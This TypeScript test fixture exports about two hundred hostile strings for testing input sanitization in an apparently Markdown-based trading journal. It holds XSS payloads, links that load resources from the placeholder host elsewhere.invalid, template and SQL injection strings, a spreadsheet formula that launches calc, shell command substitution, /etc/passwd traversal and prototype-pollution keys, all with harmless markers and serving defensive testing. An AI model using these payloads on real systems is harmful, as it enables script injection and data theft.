const RUN = 'window.__pwn=1';
const ELSEWHERE = 'https://elsewhere.invalid';

/** Two hundred texts that try to be more than text, each of which may be written into any field. */
export const hostilePayloads: readonly string[] = [
  ...elements(),
  ...handlers(),
  ...drawings(),
  ...breakouts(),
  ...fetched(),
  ...links(),
  ...markdown(),
  ...codes(),
  ...keys(),
  ...marks(),
  ...shapes(),
];

function elements(): string[] {
  return [
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}2</SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script/x>`,
    `<script src=data:text/javascript,${RUN}></script>`,
    `<script src="${ELSEWHERE}/a.js"></script>`,
    `<script type=module>${RUN}</script>`,
    `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
    `<iframe src="javascript:parent.__pwn=1"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<applet code="${RUN}"></applet>`,
    `<form action="javascript:${RUN}"><button>Save</button></form>`,
    `<button formaction="javascript:${RUN}">Save</button>`,
    `<isindex type=image src=x onerror=${RUN}>`,
    `<base href="${ELSEWHERE}/">`,
    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<style>*{display:none}</style>`,
    `<style>@import "${ELSEWHERE}/a.css";</style>`,
    `<portal src="${ELSEWHERE}"></portal>`,
    `<dialog open><h1>Sign in</h1></dialog>`,
    `<template><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<plaintext>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
  ];
}

function handlers(): string[] {
  const events: [element: string, event: string][] = [
    ['img src=x', 'onerror'],
    ['img src=/', 'onload'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['body', 'onhashchange'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['details open', 'ontoggle'],
    ['video src=x', 'onerror'],
    ['audio src=x', 'onerror'],
    ['video><source', 'onerror'],
    ['marquee', 'onstart'],
    ['div style="animation:spin 1s"', 'onanimationstart'],
    ['div style="width:9999px;height:9999px"', 'onpointerover'],
    ['a href=#', 'onclick'],
    ['p', 'onmouseenter'],
    ['div contenteditable', 'onblur'],
    ['x tabindex=1', 'onfocusin'],
    ['p', 'oncontentvisibilityautostatechange'],
    ['dialog open', 'onbeforetoggle'],
    ['form', 'onformdata'],
  ];
  return events.flatMap(([element, event]) => [`<${element} ${event}=${RUN}>`]);
}

function drawings(): string[] {
  return [
    `<svg onload=${RUN}>`,
    `<svg/onload=${RUN}//`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"></script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set onbegin=${RUN} attributename=x to=1>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></svg>`,
    `<svg><image href="${ELSEWHERE}/a.png"></svg>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`,
    `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
    `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}>`,
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  ];
}

function breakouts(): string[] {
  return [
    `"><img src=x onerror="${RUN}">`,
    `'><img src=x onerror='${RUN}'>`,
    `" onfocus="${RUN}" autofocus="`,
    `' onmouseover='${RUN}' x='`,
    `\` onmouseover=${RUN} \``,
    `</title><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`,
    `</style><script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `--><script>${RUN}</script>`,
    `<!--<img src="--><img src=x onerror=${RUN}//">`,
    `<![CDATA[><script>${RUN}</script>]]>`,
    `]]><script>${RUN}</script>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`,
    `&amp;lt;svg onload=${RUN}&amp;gt;`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `＜script＞${RUN}＜/script＞`,
    `<img src=x onerror=&#119;indow.__pwn=1>`,
    `<<img src=x onerror=${RUN}//>`,
    `<img src=x:x onerror=${RUN} `,
    `"};${RUN};//`,
    `';${RUN};//`,
    `\\';${RUN};//`,
  ];
}

function fetched(): string[] {
  return [
    `<img src="${ELSEWHERE}/a.gif">`,
    `<img srcset="${ELSEWHERE}/a.gif 2x">`,
    `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
    `<link rel=prefetch href="${ELSEWHERE}/">`,
    `<video poster="${ELSEWHERE}/a.png">`,
    `<div style="background:url(${ELSEWHERE}/a.png)">`,
    `url(${ELSEWHERE}/a.png)`,
    `;background:url(${ELSEWHERE}/a.png);`,
    `expression(${RUN})`,
    `//elsewhere.invalid/a.png`,
    `\\\\elsewhere.invalid\\share\\a.png`,
    `file:///etc/passwd`,
  ];
}

/** Markdown's own ways to point somewhere. */
function links(): string[] {
  const addresses = [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}2`,
    `&#106;avascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `java&Tab;script:${RUN}`,
    `java&NewLine;script:${RUN}`,
    `%6Aavascript:${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==',
    'blob:null/0',
    'file:///etc/passwd',
    'app://journal/index.html',
    '//elsewhere.invalid/',
    '#/settings',
    `x onclick=${RUN}`,
  ];
  return [
    ...addresses.map((address) => `[open](${address})`),
    ...addresses.slice(0, 6).map((address) => `![shown](${address})`),
    ...addresses.slice(0, 4).map((address) => `<${address}>`),
  ];
}

function markdown(): string[] {
  return [
    `![shown](${ELSEWHERE}/a.gif)`,
    `![shown](${ELSEWHERE}/a.gif "x\\" onload=${RUN}")`,
    `[![shown](${ELSEWHERE}/a.gif)](javascript:${RUN})`,
    `[open](${ELSEWHERE} "\\" onmouseover=${RUN} \\"")`,
    `[open]: javascript:${RUN}`,
    `[open][ref] [ref]: javascript:${RUN}`,
    `[^1]: <script>${RUN}</script> [^1]`,
    `<${ELSEWHERE}/?"onmouseover=${RUN}>`,
    `www.elsewhere.invalid/"onmouseover=${RUN}`,
    `${ELSEWHERE}/<img src=x onerror=${RUN}>`,
    `a@elsewhere.invalid"onmouseover=${RUN}`,
    `| <img src=x onerror=${RUN}> | --- |`,
    `- [ ] <input onfocus=${RUN} autofocus>`,
    `\`<img src=x onerror=${RUN}>\``,
    `~~<svg onload=${RUN}>~~`,
    `**<b onmouseover=${RUN}>**`,
    `# <h1 id=root>`,
    `[[trade:${'0'.repeat(32)}]]`,
    `[[trade:<img src=x onerror=${RUN}>]]`,
    `[[day:9999-99-99]]`,
    `[[day:2026-01-05]](javascript:${RUN})`,
  ];
}

function codes(): string[] {
  return [
    `{{constructor.constructor("${RUN}")()}}`,
    `{{${RUN}}}`,
    `$\{${RUN}}`,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    `{%raw%}${RUN}{%endraw%}`,
    `[[$eval("${RUN}")]]`,
    `@{${RUN}}`,
    `dangerouslySetInnerHTML={{__html:"<img src=x onerror=${RUN}>"}}`,
    `{"$$typeof":"Symbol(react.element)","type":"script","props":{}}`,
    `'; DROP TABLE annotation; --`,
    `" OR 1=1 --`,
    `text:* NEAR(a b) AND "`,
    `%_\\%'`,
    `=HYPERLINK("${ELSEWHERE}","x")`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    '$(touch /tmp/pwn)',
    '../../../etc/passwd',
    `{{$on.constructor('${RUN}')()}}`,
    `<!--#exec cmd="touch /tmp/pwn"-->`,
    `--journal=/elsewhere`,
    `%n%n%n%s%x`,
  ];
}

function keys(): string[] {
  return [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '{"__proto__":{"pwn":1}}',
    'null',
    'undefined',
    'NaN',
    'true',
  ];
}

/** What turns text around or hides in it: names of it are refused, notes keep it. */
function marks(): string[] {
  return [
    'user\u202Egnp.exe',
    'iso\u2066late\u2069',
    'zero\u200Bwidth',
    'sep\u2028arator',
    'bell\u0007',
    'escape\u001b[2J',
    'c1\u0085',
    'bom\ufeff',
  ];
}

function shapes(): string[] {
  return [
    'W'.repeat(110),
    `${'<b>'.repeat(30)}deep`,
    '>'.repeat(100),
    '['.repeat(100),
    '*_'.repeat(50),
    'حساب <img src=x> التداول',
    '👩🏽‍🚀🏴‍☠️ <b>swing</b>',
    'Z\u0351\u036b\u0343a\u0321\u0353l\u0328\u0349g\u0325\u0346o\u0322\u0313',
    'ﷺ'.repeat(30),
    '証券口座　メイン',
  ];
}
